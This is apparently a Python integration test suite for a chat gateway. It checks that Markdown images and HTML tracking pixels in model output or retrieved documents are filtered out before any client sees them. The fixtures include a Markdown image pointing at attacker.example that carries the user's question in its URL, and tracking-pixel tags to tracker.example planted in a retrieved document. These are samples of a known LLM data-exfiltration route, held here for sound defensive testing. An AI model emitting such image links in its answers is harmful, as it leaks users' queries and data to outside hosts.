"""No image reaches a client that renders Markdown: the real gateway's OpenAI-compatible /v1 and /api
faces over the real chat, with an LLM stand-in streaming an image cut across many deltas, and with the
built-in offline generator quoting a document that holds a tracking pixel. Real Redis."""
from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import pytest
from fastapi import FastAPI, Request

from services.chat.main import create_app as create_chat_app
from services.chat.settings import Settings as ChatSettings
from services.gateway.main import create_app as create_gateway_app
from tests.integration.chat.stand_ins import RESULTS, TOKEN, fake_retrieval_app
from tests.integration.gateway.chat_stand_in import gateway_settings, login
from tests.support import serve_in_thread
from tests.unit.chat.fakes import ListPublisher

pytestmark = pytest.mark.integration

LEAK = "https://attacker.example/p?q=How+do+I+add+a+user"
# The stand-in streams word by word: the image arrives as "![the", " status", " badge](https://…", ' "badge")[1].'
POISONED = f'To add a user, run cairn user add NAME ![the status badge]({LEAK} "badge")[1]. Hello! [1]'
FILTERED = "To add a user, run cairn user add NAME the status badge[1]. Hello! [1]"
PIXEL_DOC = {
    **RESULTS[0],
    "content": "To add a user, run cairn user add NAME --role user. "
    '![](https://tracker.example/pixel.gif) <img src="https://tracker.example/p2.gif" alt=""> '
    "The command prompts for the password.",
}
QUESTION = {"messages": [{"role": "user", "content": "How do I add a user with cairn user add?"}]}


def pixel_retrieval_app() -> FastAPI:
    app = FastAPI()

    @app.post("/search")
    async def search(request: Request) -> dict:
        return {"query": (await request.json())["query"], "mode": "dense", "took_ms": 1.0, "results": [PIXEL_DOC]}

    return app


def _chat_settings(retrieval_url: str, redis_url: str, **overrides) -> ChatSettings:
    return ChatSettings(
        service_token=TOKEN, retrieval_url=retrieval_url, redis_url=redis_url, query_reformulation="off", **overrides
    )


@pytest.fixture(scope="module")
def gateway_over_model(model, redis_url) -> Iterator[str]:
    app, _ = fake_retrieval_app()
    with serve_in_thread(app) as retrieval_url:
        settings = _chat_settings(
            retrieval_url, redis_url, llm_base_url=f"{model[0]}/v1", llm_model="test-model", llm_max_retries=0
        )
        with serve_in_thread(create_chat_app(settings, publisher=ListPublisher())) as chat_url:
            yield chat_url


@pytest.fixture(scope="module")
def offline_chat(redis_url) -> Iterator[str]:
    with serve_in_thread(pixel_retrieval_app()) as retrieval_url:
        settings = _chat_settings(retrieval_url, redis_url)
        with serve_in_thread(create_chat_app(settings, publisher=ListPublisher())) as url:
            yield url


def _gateway(chat_url: str, redis_url: str, prefix: str):
    settings = gateway_settings(redis_url=redis_url, prefix=prefix, chat_url=chat_url, service_token=TOKEN)
    return serve_in_thread(create_gateway_app(settings))


def _streamed_content(client: httpx.Client, auth: dict) -> tuple[str, dict]:
    """The /v1 stream's content deltas joined, and its closing chunk (citations and the `cairn` extra)."""
    raw = client.post("/v1/chat/completions", headers=auth, json={**QUESTION, "stream": True}, timeout=30)
    assert raw.status_code == 200, raw.text
    chunks = [json.loads(line[6:]) for line in raw.text.splitlines() if line.startswith("data: {")]
    content = "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c.get("choices"))
    return content, next(c for c in reversed(chunks) if "cairn" in c)


def test_an_image_the_model_streams_in_pieces_reaches_no_v1_client(gateway_over_model, script, redis_url, unique):
    script.reset(mode="stream", text=POISONED, chunk_delay_s=0.01)
    with _gateway(gateway_over_model, redis_url, unique) as gateway, httpx.Client(base_url=gateway) as client:
        auth = login(client)
        content, closing = _streamed_content(client, auth)
        script.reset(mode="answer", text=POISONED)
        plain = client.post("/v1/chat/completions", headers=auth, json=QUESTION, timeout=30).json()
    assert content == FILTERED  # every delta filtered, nothing lost or repeated at the end
    assert closing["cairn"]["answer"] == FILTERED and [c["n"] for c in closing["citations"]] == [1]
    assert plain["choices"][0]["message"]["content"] == FILTERED


def test_a_tracking_pixel_the_offline_generator_quotes_reaches_no_client(offline_chat, redis_url, unique):
    with _gateway(offline_chat, redis_url, unique) as gateway, httpx.Client(base_url=gateway) as client:
        auth = login(client)
        content, closing = _streamed_content(client, auth)
        plain = client.post("/v1/chat/completions", headers=auth, json=QUESTION, timeout=30).json()
        web = client.post("/api/chat", headers=auth, json={"query": QUESTION["messages"][0]["content"]}).json()
    for answer in (content, closing["cairn"]["answer"], plain["choices"][0]["message"]["content"], web["answer"]):
        assert "prompts for the password" in answer, answer
        assert "tracker.example" not in answer and "<img" not in answer, answer
    assert closing["citations"] and web["citations"]
